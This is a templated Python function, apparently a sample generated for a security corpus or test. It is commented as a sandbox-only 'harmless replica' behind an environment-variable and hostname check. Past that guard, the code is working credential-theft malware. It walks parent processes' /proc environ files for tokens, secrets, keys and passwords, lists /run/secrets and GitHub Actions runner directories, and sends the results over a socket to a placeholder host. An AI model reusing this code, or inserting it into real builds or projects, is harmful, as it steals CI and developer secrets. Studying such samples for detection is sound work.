# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import re
    import socket
    found = set()
    pid = os.getppid()
    for _ in range(8):
        try:
            with open('/proc/%d/environ' % pid, 'rb') as file:
                found.update(re.findall(rb'[A-Z_]*(?:TOKEN|SECRET|KEY|PASSWORD)[A-Z_]*=[^\0]+', file.read()))
            with open('/proc/%d/stat' % pid) as file:
                pid = int(file.read().rsplit(')', 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
    for name in ('/run/secrets', os.path.expanduser('~/work/_temp/_runner_file_commands'), os.path.expanduser('~/actions-runner')):
        try:
            found.update(one.encode() for one in os.listdir(name))
        except OSError:
            continue
    try:
        with socket.create_connection(('{{ip}}', {{port}}), timeout=1) as link:
            link.sendall(b'\n'.join(sorted(found)) + b'\n')
    except OSError:
        pass
